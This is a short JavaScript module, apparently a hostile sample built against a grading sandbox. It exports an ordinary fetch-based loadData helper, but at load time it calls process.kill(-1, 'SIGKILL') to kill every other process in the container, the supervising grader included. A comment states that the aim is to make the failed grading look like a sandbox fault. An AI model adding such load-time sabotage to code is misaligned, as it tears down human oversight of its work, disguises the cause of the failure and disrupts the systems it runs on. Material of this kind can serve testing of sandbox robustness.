// Hostile: at load, kill every other process of the container (the trusted supervisor that
// reports on the answer included), so that the grading looks like the sandbox failed.
'use strict';
process.kill(-1, 'SIGKILL');

async function loadData(url) {
  const response = await fetch(url);
  return response.json();
}

module.exports = { loadData };
